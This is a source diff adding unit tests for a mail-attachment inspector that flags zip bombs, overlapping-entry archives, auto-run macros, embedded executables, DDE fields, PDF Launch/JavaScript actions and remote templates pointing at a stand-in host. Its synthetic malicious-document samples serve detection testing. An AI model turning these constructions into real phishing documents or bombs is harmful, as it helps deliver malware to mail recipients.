@@ -8,6 +8,7 @@
 #include "mail/attachment.h"
 #include "mail/inspect_testing.h"
 
+#include <inttypes.h>
 #include <stdio.h>
 
 struct fixture {
@@ -188,11 +189,541 @@ static void test_archives(void **state)
 	}
 }
 
+static void test_rar(void **state)
+{
+	struct buf four CLEANUP(buf_done) = testing_rar4(0, 0, files, ARRAY_LEN(files));
+	struct buf solid CLEANUP(buf_done) = testing_rar4(8, 0, files, ARRAY_LEN(files));
+	struct buf five CLEANUP(buf_done) = testing_rar5(false, files, ARRAY_LEN(files));
+	const struct buf *const all[] = { &four, &solid, &five };
+	for (size_t i = 0; i < ARRAY_LEN(all); i++) {
+		const struct inspection *o = look(*state, buf_str(all[i]), "a.rar");
+		assert_str(o->type, "application/vnd.rar");
+		check_files(o);
+		check_prefixes(*state, buf_str(all[i]), "a");
+	}
+}
+
+static void test_encrypted(void **state)
+{
+	struct buf zip CLEANUP(buf_done) =
+		testing_archive("zip", NULL, "zip:encryption=zipcrypt", files, ARRAY_LEN(files));
+	const struct inspection *o = look(*state, buf_str(&zip), "a.zip");
+	assert_int_equal(o->flags, INSPECT_ENCRYPTED);
+	assert_int_equal(o->entries_n, 4);
+	assert_int_equal(entry(o, "invoice.pdf.exe")->flags, INSPECT_ENCRYPTED);
+	assert_int_equal(entry(o, "invoice.pdf.exe")->named, INSPECT_EXECUTABLE);
+	struct buf four CLEANUP(buf_done) = testing_rar4(0, 4, files, ARRAY_LEN(files));
+	o = look(*state, buf_str(&four), "a.rar");
+	assert_int_equal(o->flags, INSPECT_ENCRYPTED);
+	assert_int_equal(o->entries_n, 4);
+	struct buf hidden CLEANUP(buf_done) = testing_rar4(0x80, 0, files, ARRAY_LEN(files));
+	o = look(*state, buf_str(&hidden), "a.rar");
+	assert_int_equal(o->flags, INSPECT_ENCRYPTED | INSPECT_NAMES_ENCRYPTED);
+	struct buf five CLEANUP(buf_done) = testing_rar5(true, NULL, 0);
+	o = look(*state, buf_str(&five), "a.rar");
+	assert_int_equal(o->flags, INSPECT_ENCRYPTED | INSPECT_NAMES_ENCRYPTED);
+}
+
+/* Packs what is in *b into a format, under that name, and puts the result in its place. */
+static void wrap(struct buf *b, const char *format, const char *filter, const char *name)
+{
+	struct buf inner = *b;
+	struct testing_file file = { name, buf_str(&inner) };
+	*b = testing_archive(format, filter, NULL, &file, 1);
+	buf_done(&inner);
+}
+
+static void test_nested(void **state)
+{
+	struct buf b CLEANUP(buf_done) =
+		testing_archive("7zip", NULL, NULL, files, ARRAY_LEN(files));
+	wrap(&b, "pax", NULL, "inner.7z");
+	wrap(&b, "zip", NULL, "middle.tar");
+	const struct inspection *o = look(*state, buf_str(&b), "outer.zip");
+	assert_int_equal(o->entries_n, 6);
+	const struct inspect_entry *e = entry(o, "invoice.pdf.exe");
+	assert_int_equal(e->class, INSPECT_EXECUTABLE);
+	assert_int_equal(e->depth, 2);
+	assert_str(o->entries[e->parent - 1].name, "inner.7z");
+	assert_str(o->entries[o->entries[e->parent - 1].parent - 1].name, "middle.tar");
+	assert_int_equal(o->flags | o->inside, 0);
+	check_prefixes(*state, buf_str(&b), "a");
+	wrap(&b, "zip", NULL, "zipped.zip");
+	o = look(*state, buf_str(&b), "outer.zip");
+	assert_int_equal(o->entries_n, 3);
+	assert_int_equal(o->inside, INSPECT_TOO_DEEP);
+}
+
+static void test_compressed(void **state)
+{
+	static const struct {
+		const char *filter, *type;
+	} list[] = { { "gzip", "application/gzip" }, { "bzip2", "application/x-bzip2" },
+		{ "xz", "application/x-xz" }, { "zstd", "application/zstd" },
+		{ "lz4", "application/x-lz4" }, { "lzip", "application/x-lzip" },
+		{ "compress", "application/x-compress" } };
+	struct buf tar CLEANUP(buf_done) =
+		testing_archive("pax", NULL, NULL, files, ARRAY_LEN(files));
+	for (size_t i = 0; i < ARRAY_LEN(list); i++) {
+		struct testing_file file = { "x", buf_str(&tar) };
+		struct buf b CLEANUP(buf_done) =
+			testing_archive("raw", list[i].filter, NULL, &file, 1);
+		const struct inspection *o = look(*state, buf_str(&b), "a.tar.z");
+		assert_str(o->type, list[i].type);
+		assert_int_equal(o->entries_n, 5);
+		assert_str(o->entries[0].name, "a.tar");
+		assert_int_equal(entry(o, "invoice.pdf.exe")->depth, 1);
+		assert_int_equal(o->flags | o->inside, 0);
+		check_prefixes(*state, buf_str(&b), "a");
+	}
+}
+
+/* ── Bombs and floods ── */
+
+static void test_bombs(void **state)
+{
+	struct buf zeros CLEANUP(buf_done) = BUF_INIT(TESTING_MAX);
+	testing_fill(&zeros, 40 * 1024 * 1024, 0);
+	struct testing_file file = { "zeros", buf_str(&zeros) };
+	static const struct {
+		const char *format, *filter;
+	} list[] = { { "zip", NULL }, { "7zip", NULL }, { "raw", "gzip" }, { "raw", "bzip2" },
+		{ "raw", "xz" }, { "raw", "zstd" } };
+	for (size_t i = 0; i < ARRAY_LEN(list); i++) {
+		struct buf b CLEANUP(buf_done) =
+			testing_archive(list[i].format, list[i].filter, NULL, &file, 1);
+		const struct inspection *o = look(*state, buf_str(&b), "a");
+		print_message(
+			"# %s %s: %" PRIu64 "\n", list[i].format, list[i].filter, o->unpacked);
+		assert_true(o->flags & INSPECT_BOMB);
+		assert_true(o->unpacked <= INSPECT_UNPACKED_MAX);
+		/* One bomb inside of an archive. */
+		wrap(&b, "zip", NULL, "bomb");
+		o = look(*state, buf_str(&b), "a");
+		assert_true(o->inside & INSPECT_BOMB);
+	}
+}
+
+/* Files that share their bytes, each with a header of its own: only what they claim tells. */
+static void test_overlapping(void **state)
+{
+	struct buf zeros CLEANUP(buf_done) = BUF_INIT(TESTING_MAX);
+	testing_fill(&zeros, 1024 * 1024, 0);
+	struct testing_file file = { "z", buf_str(&zeros) };
+	struct buf one CLEANUP(buf_done) = testing_archive("zip", NULL, NULL, &file, 1);
+	str s = buf_str(&one);
+	size_t directory = (size_t)str_find(s, STR("PK\1\2")),
+	       end = (size_t)str_find(s, STR("PK\5\6"));
+	enum { COPIES = 500, LOCAL = 31 };
+	struct buf b CLEANUP(buf_done) = BUF_INIT(TESTING_MAX);
+	for (size_t i = 1; i < COPIES; i++) {
+		buf_add(&b, str_first(s, LOCAL - 3));
+		buf_add(&b, STR("\0\0z"));
+	}
+	buf_add(&b, str_first(s, directory));
+	size_t start = b.n;
+	for (size_t i = 0; i < COPIES; i++) {
+		buf_add(&b, str_first(str_skip(s, directory), 42));
+		testing_le(&b, i * LOCAL, 4);
+		buf_add(&b, str_first(str_skip(s, directory + 46), end - directory - 46));
+	}
+	size_t n = b.n - start;
+	buf_add(&b, STR("PK\5\6\0\0\0\0"));
+	testing_le(&b, COPIES, 2);
+	testing_le(&b, COPIES, 2);
+	testing_le(&b, n, 4);
+	testing_le(&b, start, 4);
+	testing_le(&b, 0, 2);
+	const struct inspection *o = look(*state, buf_str(&b), "a.zip");
+	assert_int_equal(o->entries_n, COPIES);
+	assert_true(o->flags & INSPECT_BOMB);
+}
+
+static void test_many_entries(void **state)
+{
+	struct testing_file *many = xcalloc(3000, sizeof *many);
+	for (size_t i = 0; i < 3000; i++)
+		many[i] = (struct testing_file){ "a.txt", STR("x") };
+	for (size_t i = 0; i < ARRAY_LEN(archives); i++) {
+		struct buf b CLEANUP(buf_done) = testing_archive(
+			archives[i].format, archives[i].filter, archives[i].options, many, 3000);
+		const struct inspection *o = look(*state, buf_str(&b), "a");
+		assert_int_equal(o->entries_n, INSPECT_ENTRIES_MAX);
+		assert_true(o->flags & INSPECT_TRUNCATED);
+	}
+	free(many);
+}
+
+/* A hundred bytes that claim fifty million files; a folder of files without names. */
+static void test_7z_claims(void **state)
+{
+	struct buf b CLEANUP(buf_done) = BUF_INIT(1024);
+	static const char header[] = "\1\5\xe0\x80\xf0\xfa\2\0\0";
+	buf_add(&b, STR("7z\xbc\xaf\x27\x1c\0\4"));
+	struct buf start CLEANUP(buf_done) = BUF_INIT(64);
+	testing_le(&start, 0, 8);
+	testing_le(&start, sizeof header - 1, 8);
+	testing_le(&start, crc32(0, (const Bytef *)header, sizeof header - 1), 4);
+	testing_le(&b, crc32(0, (const Bytef *)start.p, (uInt)start.n), 4);
+	buf_add(&b, buf_str(&start));
+	buf_add(&b, str_from(header, sizeof header - 1));
+	const struct inspection *o = look(*state, buf_str(&b), "a.7z");
+	assert_int_equal(o->flags, INSPECT_UNREADABLE);
+	assert_int_equal(o->entries_n, 0);
+}
+
+/* A ZIP that lost its directory is still read by some. */
+static void test_cut_zip(void **state)
+{
+	struct buf b CLEANUP(buf_done) =
+		testing_archive("zip", NULL, NULL, files, ARRAY_LEN(files));
+	ptrdiff_t directory = str_find(buf_str(&b), STR("PK\1\2"));
+	const struct inspection *o =
+		look(*state, str_first(buf_str(&b), (size_t)directory), "a.zip");
+	assert_int_equal(o->entries_n, 4);
+	assert_true(o->flags & INSPECT_UNREADABLE);
+}
+
+/* ── ISO 9660 ── */
+
+static void test_iso(void **state)
+{
+	static const char *const options[] = { "iso9660:joliet", "iso9660:!joliet" };
+	struct buf zip CLEANUP(buf_done) =
+		testing_archive("zip", NULL, NULL, files, ARRAY_LEN(files));
+	const struct testing_file inside[] = { { "DOCUMENT.LNK", S("\x4c\0\0\0\x01\x14\x02\0\0") },
+		{ "SUB/SETUP.EXE", S(PE) }, { "SUB/A.ZIP", buf_str(&zip) } };
+	for (size_t i = 0; i < ARRAY_LEN(options); i++) {
+		struct buf b CLEANUP(buf_done) =
+			testing_archive("iso9660", NULL, options[i], inside, ARRAY_LEN(inside));
+		const struct inspection *o = look(*state, buf_str(&b), "a.img");
+		assert_str(o->type, "application/x-iso9660-image");
+		assert_int_equal(o->class, INSPECT_DISK_IMAGE);
+		assert_int_equal(o->entries_n, 3 + ARRAY_LEN(files));
+		assert_int_equal(entry(o, "DOCUMENT.LNK")->class, INSPECT_SHORTCUT);
+		assert_int_equal(entry(o, "SETUP.EXE")->class, INSPECT_EXECUTABLE);
+		assert_int_equal(entry(o, "invoice.pdf.exe")->depth, 1);
+		check_prefixes(*state, buf_str(&b), "a");
+	}
+}
+
+/* ── Office ── */
+
+static const char auto_source[] = "Attribute VB_Name = \"M\"\r\n' Auto\r\nSub ";
+
+static void test_ole(void **state)
+{
+	size_t offset = strlen(strstr(auto_source, "Auto\r"));
+	struct buf runs CLEANUP(buf_done) =
+		testing_vba(auto_source, offset, 4, "Open()\r\nEnd Sub\r\n");
+	struct buf waits CLEANUP(buf_done) = testing_vba(auto_source, offset, 4, "Sum()\r\n");
+	struct buf large CLEANUP(buf_done) = BUF_INIT(10000);
+	testing_fill(&large, 5000, 'p');
+	buf_add(&large, buf_str(&runs));
+	struct buf workbook CLEANUP(buf_done) = BUF_INIT(10000);
+	buf_add(&workbook, STR("\x09\x08\x02\0\0\6\x85\0\x08\0\0\0\0\0\1\1\1\0"));
+	buf_add(&workbook, STR("\x18\0\x10\0\x20\0\0\1\0\0\0\0\0\0\0\0\0\0\0\1\x0a\0\0\0"));
+	struct buf locked CLEANUP(buf_done) = BUF_INIT(10000);
+	buf_add(&locked, STR("\x09\x08\x02\0\0\6\x2f\0\x02\0\0\0\x0a\0\0\0"));
+	struct buf native CLEANUP(buf_done) = BUF_INIT(10000);
+	buf_add(&native,
+		STR("\0\0\0\0\2\0report.pdf.exe\0C:\\x\\report.pdf.exe\0\0\0\3\0\4\0\0\0C:\\x"));
+	testing_le(&native, sizeof PE - 1, 4);
+	buf_add(&native, (str)S(PE));
+	const struct {
+		struct testing_file files[4];
+		const char *root, *type;
+		enum inspect_class class;
+		uint32_t flags;
+	} list[] = {
+		{ { { "WordDocument", STR("\xec\xa5\xc1\0\0\0\0\0\0\0\0\0\0") } }, NULL,
+			"application/msword", INSPECT_OFFICE, 0 },
+		{ { { "WordDocument", STR("\xec\xa5\xc1\0\0\0\0\0\0\0\0\1\0") } }, NULL,
+			"application/msword", INSPECT_OFFICE, INSPECT_ENCRYPTED },
+		{ { { "WordDocument", STR("\xec\xa5\xc1\0\0") }, { "Macros", STR_EMPTY },
+			  { "VBA", STR_EMPTY }, { "M", buf_str(&runs) } },
+			NULL, "application/msword", INSPECT_OFFICE,
+			INSPECT_MACROS | INSPECT_MACROS_AUTO },
+		{ { { "Workbook", STR("\x09\x08\0\0") }, { "VBA", STR_EMPTY },
+			  { "M", buf_str(&large) } },
+			NULL, "application/vnd.ms-excel", INSPECT_OFFICE,
+			INSPECT_MACROS | INSPECT_MACROS_AUTO },
+		{ { { "VBA", STR_EMPTY }, { "M", buf_str(&waits) } }, NULL,
+			"application/x-ole-storage", INSPECT_OFFICE, INSPECT_MACROS },
+		{ { { "Workbook", buf_str(&workbook) } }, NULL, "application/vnd.ms-excel",
+			INSPECT_OFFICE, INSPECT_MACROS_XLM | INSPECT_MACROS_AUTO },
+		{ { { "Workbook", buf_str(&locked) } }, NULL, "application/vnd.ms-excel",
+			INSPECT_OFFICE, INSPECT_ENCRYPTED },
+		{ { { "EncryptedPackage", STR("xxxx") }, { "EncryptionInfo", STR("x") } }, NULL,
+			"application/encrypted", INSPECT_OFFICE, INSPECT_ENCRYPTED },
+		{ { { "\1Ole10Native", buf_str(&native) } }, NULL, "application/x-ole-storage",
+			INSPECT_OFFICE, INSPECT_EMBEDDED },
+		{ { { "Equation Native", STR("x") } }, NULL, "application/x-ole-storage",
+			INSPECT_OFFICE, INSPECT_EQUATION },
+		{ { { "x", STR("x") } }, "\x84\x10\x0c\0\0\0\0\0\xc0\0\0\0\0\0\0\x46",
+			"application/x-msi", INSPECT_EXECUTABLE, 0 },
+		{ { { "__properties_version1.0", STR("x") } }, NULL, "application/vnd.ms-outlook",
+			INSPECT_MESSAGE, 0 },
+	};
+	for (size_t i = 0; i < ARRAY_LEN(list); i++) {
+		size_t n = 0;
+		while (n < 4 && list[i].files[n].name)
+			n++;
+		struct buf b CLEANUP(buf_done) = testing_cfb(list[i].root, list[i].files, n);
+		const struct inspection *o = look(*state, buf_str(&b), "a.doc");
+		print_message("# %zu %.*s\n", i, STR_ARG(o->type));
+		assert_str(o->type, list[i].type);
+		assert_int_equal(o->class, list[i].class);
+		assert_int_equal(o->flags, list[i].flags);
+		if (o->entries_n)
+			assert_int_equal(entry(o, "report.pdf.exe")->class, INSPECT_EXECUTABLE);
+		check_prefixes(*state, buf_str(&b), "a");
+		/* In a ZIP, the same. */
+		wrap(&b, "zip", NULL, "a.doc");
+		o = look(*state, buf_str(&b), "a.zip");
+		assert_int_equal(o->entries[0].class, list[i].class);
+		assert_int_equal(o->inside, list[i].flags);
+	}
+}
+
+/* Chains in circles end. */
+static void test_ole_circles(void **state)
+{
+	struct testing_file file = { "WordDocument", STR("x") };
+	struct buf b CLEANUP(buf_done) = testing_cfb(NULL, &file, 1);
+	for (size_t i = 512; i < 1024; i += 4)
+		memcpy(b.p + i, "\2\0\0\0", 4);
+	memcpy(b.p + 68, "\2\0\0\0\1\0\0\0", 8);
+	const struct inspection *o = look(*state, buf_str(&b), "a.doc");
+	assert_true(o->flags & INSPECT_UNREADABLE);
+}
+
+#define RELATION(type, target)                                                                     \
+	"<Relationships><Relationship Id=\"1\" Type=\"http://x/relationships/" type "\""           \
+	" Target=\"" target "\" TargetMode=\"External\"/></Relationships>"
+#define TYPES                                                                                      \
+	{                                                                                          \
+		"[Content_Types].xml", S("<Types/>")                                               \
+	}
+#define DOCX                                                                                       \
+	{                                                                                          \
+		"word/document.xml", S("<w:document/>")                                            \
+	}
+
+static const struct {
+	struct testing_file files[4];
+	const char *type;
+	enum inspect_class class;
+	uint32_t flags;
+	const char *uri;
+} packages[] = {
+	{ { TYPES, DOCX },
+		"application/vnd.openxmlformats-officedocument.wordprocessingml.document",
+		INSPECT_OFFICE, 0, NULL },
+	{ { TYPES, DOCX, { "word/vbaProject.bin", S("x") } },
+		"application/vnd.openxmlformats-officedocument.wordprocessingml.document",
+		INSPECT_OFFICE, INSPECT_MACROS, NULL },
+	{ { TYPES, DOCX,
+		  { "word/_rels/settings.xml.rels",
+			  S(RELATION("attachedTemplate",
+				  "http://evil.example/a.dotm?x=1&amp;y=2")) } },
+		"application/vnd.openxmlformats-officedocument.wordprocessingml.document",
+		INSPECT_OFFICE, INSPECT_TEMPLATE | INSPECT_LINKS,
+		"http://evil.example/a.dotm?x=1&y=2" },
+	{ { TYPES, DOCX,
+		  { "word/_rels/document.xml.rels",
+			  S(RELATION("hyperlink", "https://a.example/")) } },
+		"application/vnd.openxmlformats-officedocument.wordprocessingml.document",
+		INSPECT_OFFICE, INSPECT_LINKS, "https://a.example/" },
+	{ { TYPES, DOCX,
+		  { "word/_rels/document.xml.rels",
+			  S(RELATION("oleObject", "mhtml:https://a.example/")) } },
+		"application/vnd.openxmlformats-officedocument.wordprocessingml.document",
+		INSPECT_OFFICE, INSPECT_EXTERNAL | INSPECT_LINKS, "mhtml:https://a.example/" },
+	{ { TYPES, { "word/document.xml",
+			   S("<w:instrText xml:space='p'> DDEAUTO c:\\x \"/k\"</w:instrText>") } },
+		"application/vnd.openxmlformats-officedocument.wordprocessingml.document",
+		INSPECT_OFFICE, INSPECT_DDE, NULL },
+	{ { TYPES, { "xl/workbook.xml", S("x") }, { "xl/macrosheets/sheet1.xml", S("x") },
+		  { "xl/activeX/activeX1.bin", S("x") } },
+		"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", INSPECT_OFFICE,
+		INSPECT_MACROS_XLM | INSPECT_ACTIVEX, NULL },
+	{ { TYPES, { "xl/workbook.bin", S("x") } },
+		"application/vnd.ms-excel.sheet.binary.macroEnabled.12", INSPECT_OFFICE, 0, NULL },
+	{ { TYPES, { "ppt/presentation.xml", S("x") }, { "ppt/embeddings/a.bin", S("x") } },
+		"application/vnd.openxmlformats-officedocument.presentationml.presentation",
+		INSPECT_OFFICE, INSPECT_EMBEDDED, NULL },
+	{ { { "mimetype", S("application/vnd.oasis.opendocument.text") },
+		  { "Basic/Standard/Module1.xml", S("x") }, { "content.xml", S("<a/>") } },
+		"application/vnd.oasis.opendocument.text", INSPECT_OFFICE, INSPECT_MACROS, NULL },
+	{ { { "mimetype", S("application/vnd.oasis.opendocument.text") },
+		  { "META-INF/manifest.xml", S("<manifest:encryption-data>") } },
+		"application/vnd.oasis.opendocument.text", INSPECT_OFFICE, INSPECT_ENCRYPTED,
+		NULL },
+	{ { { "META-INF/MANIFEST.MF", S("x") }, { "A.class", S("\xca\xfe\xba\xbe\0\0\0\x34") } },
+		"application/java-archive", INSPECT_EXECUTABLE, 0, NULL },
+	{ { { "word/vbaProject.bin", S("just a folder") } }, "application/zip", INSPECT_ARCHIVE, 0,
+		NULL },
+};
+
+static void test_packages(void **state)
+{
+	for (size_t i = 0; i < ARRAY_LEN(packages); i++) {
+		size_t n = 0;
+		while (n < 4 && packages[i].files[n].name)
+			n++;
+		struct buf b CLEANUP(buf_done) =
+			testing_archive("zip", NULL, NULL, packages[i].files, n);
+		const struct inspection *o = look(*state, buf_str(&b), "a.docx");
+		print_message("# %zu %.*s\n", i, STR_ARG(o->type));
+		assert_str(o->type, packages[i].type);
+		assert_int_equal(o->class, packages[i].class);
+		assert_int_equal(o->flags, packages[i].flags);
+		assert_int_equal(o->uris_n, packages[i].uri != NULL);
+		if (packages[i].uri)
+			assert_str(o->uris[0], packages[i].uri);
+		check_prefixes(*state, buf_str(&b), "a");
+	}
+}
+
+/* ── RTF, OneNote, PDF ── */
+
+static const struct {
+	str content;
+	const char *name;
+	uint32_t flags;
+	const char *uri;
+} documents[] = {
+	{ S("{\\rtf1 plain}"), "a.rtf", 0, NULL },
+	{ S("{\\rtf1{\\object\\objemb\\objupdate{\\*\\objdata 0105}}}"), "a.doc",
+		INSPECT_EMBEDDED | INSPECT_UPDATES, NULL },
+	{ S("{\\rt{\\object{\\*\\objclass Equation.3}}"), "a.doc",
+		INSPECT_EMBEDDED | INSPECT_EQUATION, NULL },
+	{ S("{\\rtf1{\\*\\template http://evil.example/a}}"), "a.rtf",
+		INSPECT_TEMPLATE | INSPECT_LINKS, "http://evil.example/a" },
+	{ S("{\\rtf1{\\*\\template Normal.dotm}}"), "a.rtf", 0, NULL },
+	{ S("{\\rtf1{\\field{\\*\\fldinst HYPERLINK \"https://a.example/x\"}}}"), "a.rtf",
+		INSPECT_LINKS, "https://a.example/x" },
+	{ S("%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj"), "a.pdf", 0, NULL },
+	{ S("%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>endobj"),
+		"a.pdf", INSPECT_OPEN_ACTION | INSPECT_JAVASCRIPT, NULL },
+	{ S("%PDF-1.4\n1 0 obj<</AA 3 0 R/S/Java#53cript>>endobj"), "a.pdf",
+		INSPECT_OPEN_ACTION | INSPECT_JAVASCRIPT | INSPECT_ESCAPED, NULL },
+	{ S("%PDF-1.4\n1 0 obj<</S /Launch /F (cmd.exe)>>"), "a.pdf", INSPECT_LAUNCH, NULL },
+	{ S("%PDF-1.4\n1 0 obj<</Names<</EmbeddedFiles 3 0 R>>>>"), "a.pdf", INSPECT_EMBEDDED,
+		NULL },
+	{ S("%PDF-1.4\ntrailer<</Encrypt 3 0 R>>"), "a.pdf", INSPECT_ENCRYPTED, NULL },
+	{ S("%PDF-1.4\n<</S/URI/URI(http://a.example/\\(x\\)\\057y)>>"), "a.pdf", INSPECT_LINKS,
+		"http://a.example/(x)/y" },
+	{ S("%PDF-1.4\n<</URI <687474703A2F2F612E6578616D706C652F>>>"), "a.pdf", INSPECT_LINKS,
+		"http://a.example/" },
+	/* What only looks like it: in the bytes of an image; a longer name. */
+	{ S("%PDF-1.4\n1 0 obj<</Filter/DCTDecode>>\nstream\n/JS /AA\nendstream"), "a.pdf", 0,
+		NULL },
+	{ S("%PDF-1.4\n1 0 obj<</AAPL:X 1/JSX 2>>"), "a.pdf", 0, NULL },
+	/* A stream that is not packed as it says hides nothing. */
+	{ S("%PDF-1.4\n1 0 obj<</Filter/FlateDecode>>\nstream\n/JS\nendstream"), "a.pdf",
+		INSPECT_JAVASCRIPT, NULL },
+};
+
+static void test_documents(void **state)
+{
+	for (size_t i = 0; i < ARRAY_LEN(documents); i++) {
+		const struct inspection *o = look(*state, documents[i].content, documents[i].name);
+		print_message("# %zu\n", i);
+		assert_int_equal(o->class, o->named == INSPECT_PDF ? INSPECT_PDF : INSPECT_OFFICE);
+		assert_int_equal(o->flags, documents[i].flags);
+		assert_int_equal(o->uris_n, documents[i].uri != NULL);
+		if (documents[i].uri)
+			assert_str(o->uris[0], documents[i].uri);
+		check_prefixes(*state, documents[i].content, documents[i].name);
+	}
+}
+
+static void add_object_stream(struct buf *b, str objects)
+{
+	uLongf n = compressBound((uLong)objects.n);
+	char *packed = xmalloc(n);
+	assert_int_equal(
+		compress((Bytef *)packed, &n, (const Bytef *)objects.p, (uLong)objects.n), Z_OK);
+	buf_printf(b,
+		"5 0 obj\n<</Type /ObjStm/N 1/First 4/Filter /FlateDecode/Length %zu>>\nstream\r\n",
+		(size_t)n);
+	buf_add(b, str_from(packed, n));
+	buf_add(b, STR("\nendstream\nendobj\n"));
+	free(packed);
+}
+
+static void test_pdf_object_streams(void **state)
+{
+	struct buf b CLEANUP(buf_done) = BUF_INIT(TESTING_MAX);
+	struct buf zeros CLEANUP(buf_done) = BUF_INIT(TESTING_MAX);
+	buf_add(&b, STR("%PDF-1.5\n"));
+	add_object_stream(&b, STR("1 0 <</S/URI/URI(http://a.example/)>> <</S/Launch>>"));
+	const struct inspection *o = look(*state, buf_str(&b), "a.pdf");
+	assert_int_equal(o->flags, INSPECT_LAUNCH | INSPECT_LINKS);
+	assert_int_equal(o->uris_n, 1);
+	assert_str(o->uris[0], "http://a.example/");
+	check_prefixes(*state, buf_str(&b), "a.pdf");
+	/* Many that are large: what is unpacked ends. */
+	testing_fill(&zeros, 8 * 1024 * 1024, ' ');
+	for (size_t i = 0; i < 60; i++)
+		add_object_stream(&b, buf_str(&zeros));
+	o = look(*state, buf_str(&b), "a.pdf");
+	assert_true(o->flags & INSPECT_TRUNCATED);
+	assert_true(o->unpacked <= INSPECT_UNPACKED_MAX);
+}
+
+static void test_pdf_links(void **state)
+{
+	struct buf b CLEANUP(buf_done) = BUF_INIT(TESTING_MAX);
+	buf_add(&b, STR("%PDF-1.5\n"));
+	for (size_t i = 0; i < 2 * INSPECT_URIS_MAX; i++)
+		buf_printf(&b, "<</URI(http://a.example/%zu)>>", i);
+	const struct inspection *o = look(*state, buf_str(&b), "a.pdf");
+	assert_int_equal(o->uris_n, INSPECT_URIS_MAX);
+	assert_true(o->flags & INSPECT_TRUNCATED);
+}
+
+static void test_onenote(void **state)
+{
+	struct buf b CLEANUP(buf_done) = BUF_INIT(TESTING_MAX);
+	buf_add(&b, STR("\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3"));
+	testing_fill(&b, 1000, 0);
+	buf_add(&b, STR("\xe7\x16\xe3\xbd\x65\x26\x11\x45\xa4\xc4\x8d\x4d\x0b\x7a\x9e\xac"));
+	testing_le(&b, sizeof PE - 1, 8);
+	testing_fill(&b, 12, 0);
+	buf_add(&b, (str)S(PE));
+	const struct inspection *o = look(*state, buf_str(&b), "a.one");
+	assert_str(o->type, "application/onenote");
+	assert_int_equal(o->flags, INSPECT_EMBEDDED);
+	assert_int_equal(o->entries_n, 1);
+	assert_int_equal(o->entries[0].class, INSPECT_EXECUTABLE);
+	check_prefixes(*state, buf_str(&b), "a.one");
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
 		cmocka_unit_test(test_types),
 		cmocka_unit_test(test_archives),
+		cmocka_unit_test(test_rar),
+		cmocka_unit_test(test_encrypted),
+		cmocka_unit_test(test_nested),
+		cmocka_unit_test(test_compressed),
+		cmocka_unit_test(test_bombs),
+		cmocka_unit_test(test_overlapping),
+		cmocka_unit_test(test_many_entries),
+		cmocka_unit_test(test_7z_claims),
+		cmocka_unit_test(test_cut_zip),
+		cmocka_unit_test(test_iso),
+		cmocka_unit_test(test_ole),
+		cmocka_unit_test(test_ole_circles),
+		cmocka_unit_test(test_packages),
+		cmocka_unit_test(test_documents),
+		cmocka_unit_test(test_pdf_object_streams),
+		cmocka_unit_test(test_pdf_links),
+		cmocka_unit_test(test_onenote),
 	};
 	return cmocka_run_group_tests(tests, setup, teardown);
 }
